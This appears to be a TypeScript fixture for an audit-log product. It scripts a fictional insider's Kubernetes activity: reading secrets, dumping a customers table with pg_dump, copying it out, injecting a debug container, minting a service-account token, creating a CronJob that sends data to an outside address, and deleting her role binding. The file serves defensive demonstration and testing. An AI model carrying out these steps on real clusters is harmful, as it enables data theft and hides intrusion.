/*
 * Copyright the Audit User contributors.
 * SPDX-License-Identifier: Apache-2.0
 */

import type { ApiRequest } from './api_request';
import { toExecQuery } from './exec_query';
import { unauthenticated } from './identity';
import { DAY, HOUR, MINUTE, type Micros } from './instants';
import { MAJA, toIdentity } from './persons';
import { BAD_TOKEN, refusedByAdmission, refusedByAuthorizer } from './response_status';
import type { SamplePeriod } from './sample_period';
import { clock, createScript, type ScriptedAsk } from './script';

const NAMESPACE = 'payments';
const DATABASE = 'payments-db-0';

/** An address that nobody else of the sample has: she was not in the office that evening. */
export const UNUSUAL_ADDRESS = '203.0.113.77';

/** A made-up password, in the argument of an exec, so that the product has something to mask. */
export const STORY_PASSWORD = 'Hjortron-4711-demo';

const MINUTE_MS = MINUTE / 1_000;
const VIEW =
  'RBAC: allowed by ClusterRoleBinding "developers-view" of ClusterRole "view" to Group "welkin-users"';
const SELF_REVIEW =
  'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" to Group "system:authenticated"';
const GRANTED = `RBAC: allowed by RoleBinding "payments-debug/payments" of ClusterRole "admin" to User "${MAJA.email}"`;

function exec(
  name: string,
  command: string[],
  told: string,
  more: Partial<ScriptedAsk> = {}
): ScriptedAsk {
  const container = name.replace(/-\d+$/, '');
  const query = toExecQuery(command, { container });
  return {
    verb: 'get',
    resource: 'pods',
    subresource: 'exec',
    namespace: NAMESPACE,
    name,
    query,
    told,
    ...more,
  };
}

const list = (resource: string, told: string, more: Partial<ScriptedAsk> = {}): ScriptedAsk => ({
  verb: 'list',
  resource,
  namespace: NAMESPACE,
  query: 'limit=500',
  told,
  ...more,
});

const get = (
  resource: string,
  name: string,
  told: string,
  more: Partial<ScriptedAsk> = {}
): ScriptedAsk => ({
  verb: 'get',
  resource,
  namespace: NAMESPACE,
  name,
  told,
  ...more,
});

/** The afternoon before: what is she allowed to see? */
const DAY_BEFORE: ReadonlyArray<[time: string, ask: ScriptedAsk]> = [
  ['15:40:02', list('pods', 'lists the pods of payments', { grant: VIEW })],
  ['15:41:10', list('secrets', 'is refused the list of secrets', { ends: refusedByAuthorizer })],
  [
    '15:41:31',
    get('secrets', 'payments-db-credentials', 'is refused one secret by its name', {
      ends: refusedByAuthorizer,
    }),
  ],
  [
    '15:42:04',
    {
      verb: 'create',
      resource: 'selfsubjectaccessreviews.authorization.k8s.io',
      grant: SELF_REVIEW,
      told: 'asks whether she may list secrets',
    },
  ],
  [
    '15:42:20',
    {
      verb: 'create',
      resource: 'selfsubjectrulesreviews.authorization.k8s.io',
      grant: SELF_REVIEW,
      told: 'asks for all that she may do',
    },
  ],
  [
    '15:43:47',
    exec(DATABASE, ['sh'], 'is refused a shell in the database pod', { ends: refusedByAuthorizer }),
  ],
  [
    '15:43:47.2',
    exec(DATABASE, ['sh'], 'is refused the same by the fallback of kubectl', {
      verb: 'create',
      ends: refusedByAuthorizer,
    }),
  ],
  [
    '15:46:12',
    {
      verb: 'list',
      resource: 'nodes',
      query: 'limit=500',
      ends: refusedByAuthorizer,
      told: 'is refused the list of nodes',
    },
  ],
];

const TOOLBOX =
  '{"kind":"Pod","apiVersion":"v1","metadata":{"name":"toolbox","namespace":"payments"},"spec":{"containers":[{"name":"toolbox","image":"docker.io/library/alpine:3.21","securityContext":{"privileged":true}}]}}';
const CRONJOB =
  '{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"db-sync","namespace":"payments"},"spec":{"schedule":"17 1 * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"db-sync","image":"harbor.example.com/storefront/tools:latest","args":["push","https://203.0.113.80/in"]}]}}}}}}';
const DEBUGGER =
  '{"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"harbor.example.com/storefront/tools:latest","stdin":true,"tty":true,"targetContainerName":"payments-api"}]}}';

const createPod = (told: string, check: string): ScriptedAsk => ({
  verb: 'create',
  resource: 'pods',
  namespace: NAMESPACE,
  name: 'toolbox',
  query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
  body: TOOLBOX,
  told,
  ends: (asked) => refusedByAdmission(asked, check),
});

/** The evening of the day itself, from another address, with the binding of that morning. */
const EVENING: ReadonlyArray<[time: string, ask: ScriptedAsk]> = [
  ['17:54:11', list('secrets', 'lists the secrets, with their values')],
  ['17:54:40', get('secrets', 'payments-db-credentials', 'reads the password of the database')],
  ['17:55:02', get('secrets', 'payments-api-keys', 'reads the API keys')],
  ['17:55:30', get('configmaps', 'payments-config', 'reads the configuration')],
  ['17:56:08', list('pods', 'lists the pods')],
  ['17:58:21', exec(DATABASE, ['env'], 'runs env in the database pod', { durationMs: 310 })],
  [
    '18:01:44',
    exec(
      DATABASE,
      [
        'sh',
        '-c',
        `PGPASSWORD=${STORY_PASSWORD} pg_dump -h localhost -U payments --table=customers payments | gzip > /tmp/customers.sql.gz`,
      ],
      'dumps the customers table; the password stands in the arguments',
      { durationMs: 3 * MINUTE_MS + 4_120 }
    ),
  ],
  [
    '18:05:19',
    exec(DATABASE, ['ls', '-l', '/tmp/customers.sql.gz'], 'looks at the size of the dump', {
      durationMs: 190,
    }),
  ],
  [
    '18:06:33',
    exec(
      DATABASE,
      ['tar', 'cf', '-', '/tmp/customers.sql.gz'],
      'copies the dump out (kubectl cp is an exec of tar)',
      { durationMs: 47_800 }
    ),
  ],
  [
    '18:08:02',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'portforward',
      namespace: NAMESPACE,
      name: DATABASE,
      durationMs: 41 * MINUTE_MS,
      told: 'forwards a port to the database for 41 minutes; which port is logged nowhere',
    },
  ],
  [
    '18:12:40',
    exec(DATABASE, ['rm', '/tmp/customers.sql.gz'], 'removes the dump', { durationMs: 160 }),
  ],
  [
    '18:15:27',
    exec('payments-api-1', ['bash'], 'opens a shell of whose end the log holds nothing', {
      query: toExecQuery(['bash'], { container: 'payments-api', interactive: true }),
      durationMs: 'never_logged',
    }),
  ],
  [
    '18:22:05',
    createPod(
      'is refused a privileged pod by Pod Security',
      'violates PodSecurity "restricted:latest": privileged (container "toolbox" must not set securityContext.privileged=true), runAsNonRoot != true (pod or container "toolbox" must set securityContext.runAsNonRoot=true)'
    ),
  ],
  [
    '18:23:51',
    createPod(
      'is refused an image from outside by Gatekeeper',
      'admission webhook "validation.gatekeeper.sh" denied the request: [k8sallowedrepos] container <toolbox> has an invalid image repo <docker.io/library/alpine:3.21>, allowed repos are ["harbor.example.com/"]'
    ),
  ],
  [
    '18:26:14',
    {
      verb: 'patch',
      resource: 'pods',
      subresource: 'ephemeralcontainers',
      namespace: NAMESPACE,
      name: 'payments-api-1',
      body: DEBUGGER,
      told: 'puts a container into a running pod (kubectl debug)',
    },
  ],
  [
    '18:26:16',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'attach',
      namespace: NAMESPACE,
      name: 'payments-api-1',
      query: 'container=debugger-x7k2p&stdin=true&stdout=true&tty=true',
      durationMs: 6 * MINUTE_MS,
      told: 'works in that container for six minutes',
    },
  ],
  [
    '18:35:48',
    {
      verb: 'create',
      resource: 'serviceaccounts',
      subresource: 'token',
      namespace: NAMESPACE,
      name: 'payments-deployer',
      told: 'mints a token of the service account that deploys payments',
    },
  ],
  [
    '18:37:20',
    {
      verb: 'get',
      resource: 'pods',
      subresource: 'log',
      namespace: NAMESPACE,
      name: 'payments-worker-0',
      query: 'container=payments-worker&tailLines=500',
      durationMs: 240,
      told: 'reads the log of the worker',
    },
  ],
  [
    '18:41:09',
    {
      verb: 'create',
      resource: 'cronjobs.batch',
      namespace: NAMESPACE,
      name: 'db-sync',
      body: CRONJOB,
      query: 'fieldManager=kubectl-create',
      told: 'creates a CronJob that sends data to an address outside every night',
    },
  ],
  [
    '18:43:33',
    {
      verb: 'delete',
      resource: 'pods',
      namespace: NAMESPACE,
      name: 'payments-worker-0',
      told: 'deletes a pod of the worker',
    },
  ],
  [
    '18:47:02',
    {
      verb: 'list',
      resource: 'secrets',
      namespace: 'kube-system',
      query: 'limit=500',
      told: 'is refused to act as an administrator',
      ends: () =>
        refusedByAuthorizer({
          user: MAJA.email,
          verb: 'impersonate',
          resource: 'users',
          name: 'bjorn.hakansson@example.com',
        }),
    },
  ],
  [
    '18:52:16',
    {
      verb: 'delete',
      resource: 'rolebindings.rbac.authorization.k8s.io',
      namespace: NAMESPACE,
      name: 'payments-debug',
      told: 'deletes the binding that had let her do all this',
    },
  ],
  [
    '18:53:40',
    list('secrets', 'is refused the list of secrets again', { ends: refusedByAuthorizer }),
  ],
];

/** The rest of her month: little, and of no interest. */
const QUIET_SHARES = [0.9, 0.77, 0.6, 0.47, 0.16] as const;

/** Midnight of the working day before the story's day. */
export function toDayBefore(period: SamplePeriod): Micros {
  return period.storyDay - DAY;
}

/** What the person of the story did on the two days of the story, in order of time. */
export function incidentRequests(period: SamplePeriod): ApiRequest[] {
  const script = createScript(period, 'incident');
  const office = toIdentity(MAJA, { grant: VIEW });
  const away = toIdentity(MAJA, { grant: GRANTED, sourceIps: [UNUSUAL_ADDRESS] });
  DAY_BEFORE.forEach(([time, ask]) =>
    script.ask('prod-wc', clock(toDayBefore(period), time), office, ask)
  );
  EVENING.forEach(([time, ask]) => script.ask('prod-wc', clock(period.storyDay, time), away, ask));
  return script.requests;
}

/** Two requests from her address that evening with a token that had run out: they name nobody. */
export function incidentRefusedTokens(period: SamplePeriod): ApiRequest[] {
  const script = createScript(period, 'incident tokens');
  const nobody = unauthenticated(UNUSUAL_ADDRESS, MAJA.userAgent);
  ['17:52:08', '17:52:31'].forEach((time) =>
    script.ask('prod-wc', clock(period.storyDay, time), nobody, {
      ...list('pods', ''),
      ends: BAD_TOKEN,
    })
  );
  return script.requests;
}

/** What else the person of the story did in the month, on either cluster. */
export function uneventfulRequests(period: SamplePeriod): ApiRequest[] {
  const script = createScript(period, 'uneventful');
  const by = toIdentity(MAJA);
  const seen = new Set<Micros>([period.storyDay, toDayBefore(period)]);
  QUIET_SHARES.forEach((share, i) => {
    const day = period.workday(share);
    if (seen.has(day)) return;
    seen.add(day);
    const asked = { namespace: 'storefront', query: 'limit=500' };
    script.ask('prod-wc', day + 8 * HOUR + i * 7 * MINUTE, by, {
      verb: 'list',
      resource: 'pods',
      ...asked,
    });
    script.ask('prod-wc', day + 8 * HOUR + i * 9 * MINUTE + MINUTE, by, {
      verb: 'list',
      resource: 'deployments.apps',
      ...asked,
    });
    if (i === 2) {
      script.ask('prod-sc', day + 9 * HOUR, by, {
        verb: 'list',
        resource: 'pods',
        namespace: 'harbor',
        query: 'limit=500',
        ends: refusedByAuthorizer,
      });
    }
  });
  return script.requests;
}
